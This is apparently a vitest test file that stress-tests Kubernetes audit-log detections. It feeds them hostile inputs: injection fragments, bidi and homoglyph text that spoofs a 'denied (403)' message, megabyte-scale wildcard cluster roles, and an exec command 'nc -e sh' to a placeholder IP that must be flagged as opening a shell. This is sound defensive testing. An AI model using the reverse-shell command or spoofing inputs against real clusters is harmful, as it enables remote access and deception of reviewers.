// What an object in the cluster may hold to make a detection throw, lie, flood or hang: held against every detection of entries.
import { describe, expect, it } from 'vitest'
import { detect } from '../../src/audit-log/detect.ts'
import { type AuditEvent, readEvent } from '../../src/audit-log/event.ts'
import { type Example, example } from '../../src/audit-log/example.ts'
import { patchEntry, podEntry } from '../../src/audit-log/example-pod.ts'
import { windowExample } from '../../src/audit-log/example-window.ts'
import { selects } from '../../src/audit-log/select.ts'
import { visible } from '../../src/audit-log/visible.ts'
import type { Detection } from '../../src/detection.ts'
import { isRecord } from '../../src/json.ts'
import { slot } from '../audit-log/account.ts'
import { detections } from '../audit-log/detections.ts'
import { eventOf, told } from './told.ts'

const lie = 'bob\u202E\u0000\n\u{E0041}, which was denied (403)'
const odd: readonly unknown[] = [
  ...[null, true, false, -0, 1e308, '', lie, 'x'.repeat(2_000), '*', '$(`', '\\', '__proto__'],
  ...[[], {}, [[{}]], [null, 'x', 7], { a: { b: {} } }, { name: { name: {} } }],
  { toString: 1, valueOf: 1, toJSON: 1, length: 7, constructor: 'x' },
]

const judge = (one: Detection, event: AuditEvent, settings: object): unknown[] => {
  if (one.kind === 'event') return [one.hit(event, { ...one.settings, ...settings } as never)]
  if (one.kind === 'entry') return [one.fault(event)]
  if (one.kind !== 'distinct') return []
  const set = { ...one.settings, ...settings } as never
  return [one.each(event, set), one.alone?.(event, set)]
}

const frozen = <T>(value: T): T => {
  if (typeof value === 'object' && value !== null && !Object.isFrozen(value)) {
    Object.freeze(value)
    for (const part of Object.values(value)) frozen(part)
  }
  return value
}

/** Whether what is told may stand before people, and is the same each time. */
const check = (one: Detection, event: AuditEvent, settings: object): void => {
  if (!('select' in one) || !selects(one.select, event)) return
  const said = judge(one, frozen(event), settings)
  expect(judge(one, event, settings)).toEqual(said)
  for (const reason of said.map((each) => (isRecord(each) ? each.reason : each))) {
    if (typeof reason !== 'string' || one.kind === 'distinct') continue
    if (reason.length > 700 || visible(reason, 700) !== reason) throw new Error(`${one.id}: ${JSON.stringify(reason)}`)
  }
}

const own = detections.filter(({ kind }) => ['event', 'entry', 'distinct'].includes(kind))
// But of the example whose settings name no address, which is told as not judged.
const isSound = ({ settings }: { settings: object }): boolean => !JSON.stringify(settings).includes('everybody')
const cases = own
  .flatMap((one) =>
    one.examples.hit.map((each) => ({
      one,
      log: 'log' in each ? each.log : each,
      settings: 'settings' in each ? each.settings : {},
    })),
  )
  .filter(isSound)

it.each(own.map((one) => ({ id: one.id, one })))(
  '$id stumbles over nothing that stands where something else belongs',
  ({ one }) => {
    for (const { log, settings } of cases.filter((each) => each.one === one)) {
      const event = typeof log[0] === 'string' ? readEvent(log[0]) : readEvent(JSON.stringify(log[0]))
      if (!event.readable) continue
      for (const member of ['requestObject', 'responseObject'] as const) {
        for (const changed of replaced(event[member])) {
          const both = { ...event, [member]: changed }
          const body = [both.responseObject, both.requestObject].find(isRecord) ?? null
          check(one, { ...both, body }, settings)
        }
      }
    }
  },
)

it.each(own.map((one) => ({ id: one.id, one })))('$id tells of any text without being taken in', ({ one }) => {
  const texts = [
    'user',
    'actor',
    'namespace',
    'name',
    'requestURI',
    'userAgent',
    'auditID',
    'resource',
    'subresource',
  ] as const
  for (const { log, settings } of cases.filter((each) => each.one === one)) {
    const event = typeof log[0] === 'string' ? readEvent(log[0]) : readEvent(JSON.stringify(log[0]))
    if (!event.readable) continue
    for (const text of odd.filter((each) => typeof each === 'string')) {
      for (const member of texts) check(one, { ...event, [member]: text }, settings)
      check(one, { ...event, requestURI: `${event.requestURI}&command=${encodeURIComponent(text)}` }, settings)
      check(one, { ...event, sourceIPs: [text, text], groups: [text] }, settings)
      check(one, { ...event, impersonated: { user: text, groups: [text] } }, settings)
    }
  }
})

/** The value with each of its parts in turn replaced by each of what is odd. */
function* replaced(value: unknown): Generator<unknown> {
  yield* odd
  if (typeof value !== 'object' || value === null) return
  for (const [member, part] of Object.entries(value)) {
    for (const changed of replaced(part)) {
      yield Array.isArray(value)
        ? value.map((item, at) => (String(at) === member ? changed : item))
        : { ...value, [member]: changed }
    }
  }
}

const many = <T>(most: number, of: (at: number) => T): T[] => Array.from({ length: most }, (_, at) => of(at))
const run = (...words: string[]): Example => ({
  verb: 'get',
  resource: 'pods',
  subresource: 'exec',
  namespace: 'shop',
  name: 'cart-0',
  code: 101,
  stage: 'ResponseStarted',
  requestURI: `/api/v1/namespaces/shop/pods/cart-0/exec?${words.map((word) => `command=${encodeURIComponent(word)}`).join('&')}`,
})
const clusterRole = (requestObject: unknown, verb = 'patch') =>
  example({ verb, resource: 'clusterroles', apiGroup: 'rbac.authorization.k8s.io', name: 'ops', requestObject })
const wild = { verbs: ['*'], apiGroups: ['*'], resources: ['*'] }
let nested: unknown = {}
for (let depth = 0; depth < 400; depth++) nested = { name: nested }

// Each took from a second to the whole of the memory before it was bounded, or does so in a rule that compares each with each.
describe('an entry of a megabyte', () => {
  it.each<[string, unknown, string]>([
    ['a hundred thousand containers', podEntry({ containers: many(100_000, () => ({})) }), ''],
    [
      'volumes and mounts of one name',
      podEntry({
        containers: [{ volumeMounts: many(12_000, (at) => ({ name: 'v', subPath: `${at}` })) }],
        volumes: many(12_000, (at) => ({ name: 'v', hostPath: { path: `/${at}` } })),
      }),
      'DET-31',
    ],
    ['an image that begins again and again', podEntry({ containers: [{ image: 'a:'.repeat(500_000) }] }), ''],
    ['rules by the ten thousand', clusterRole({ rules: many(12_000, () => wild) }), 'DET-07'],
    [
      'operations that put each rule',
      clusterRole(many(10_000, () => ({ op: 'add', path: '/rules/-', value: wild }))),
      'DET-07',
    ],
    [
      'operations that copy what they put',
      clusterRole([
        { op: 'add', path: '/rules', value: [wild] },
        ...many(10_000, () => ({ op: 'copy', from: '/rules', path: '/rules/0/more' })),
      ]),
      'DET-07',
    ],
    [
      'operations within a long list',
      patchEntry(
        'deployments',
        [
          { op: 'add', path: '/spec/template/spec/containers', value: many(100_000, () => 0) },
          ...many(9_000, (at) => ({
            op: 'add',
            path: `/spec/template/spec/containers/${at}`,
            value: { securityContext: { privileged: true } },
          })),
        ],
        undefined,
      ),
      'DET-29',
    ],
    ['members four hundred deep', podEntry({ containers: [nested, { name: nested, securityContext: nested }] }), ''],
    ['a command of brackets', example(run('sh', '-c', '${IFS'.repeat(200_000))), 'DET-25'],
    ['a command of substitutions', example(run('sh', '-c', '$(a '.repeat(200_000))), 'DET-24'],
    ['a command of programs', example(run(...many(60_000, () => 'env'))), 'DET-25'],
  ])('%s is judged all the same', (_, entry, id) => {
    expect(Object.keys(told(entry))).toEqual(id === '' ? expect.anything() : expect.arrayContaining([id]))
  })

  it('as a command that is just short enough is read whole', () => {
    expect(told(example(run('sh', '-c', `${':;'.repeat(32_000)} nc -e sh 198.51.100.9 1`)))['DET-25']).toContain(
      'opens a shell',
    )
  })
})

describe('a name that reads like the end of the sentence', () => {
  const reasonOf = (name: string, code = 201): string | undefined => {
    const messages = [
      example({
        ...{
          verb: 'create',
          resource: 'clusterrolebindings',
          apiGroup: 'rbac.authorization.k8s.io',
          name: 'ops',
          code,
        },
        requestObject: { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name }] },
      }),
    ].map((entry) => JSON.stringify(entry))
    const hits = detect(detections, windowExample(slot, { messages }), { slot, rules: {} })
    return hits.find(({ detection }) => detection === 'DET-03')?.reason
  }

  it.each(['bob, which was denied (403)', 'bob, whiсh was dеnied (403)'])(
    'does not hide that it was allowed: %s',
    (name) => {
      expect(reasonOf(name)).toMatch(/^allowed \(201\): .* to User bob, /)
    },
  )

  it('needs no word more where it reads like a name', () => {
    expect(reasonOf('bob')).toMatch(/ to User bob$/)
    expect(reasonOf('bob', 403)).toMatch(/ to User bob, which was denied \(403\)$/)
  })
})

describe('what is withheld or cut', () => {
  it('leaves the event as it was', () => {
    const event = eventOf(clusterRole({ rules: many(50, () => wild) }))
    const before = JSON.stringify(event)
    for (const one of own) check(one, event, {})
    expect(JSON.stringify(event)).toBe(before)
  })
})
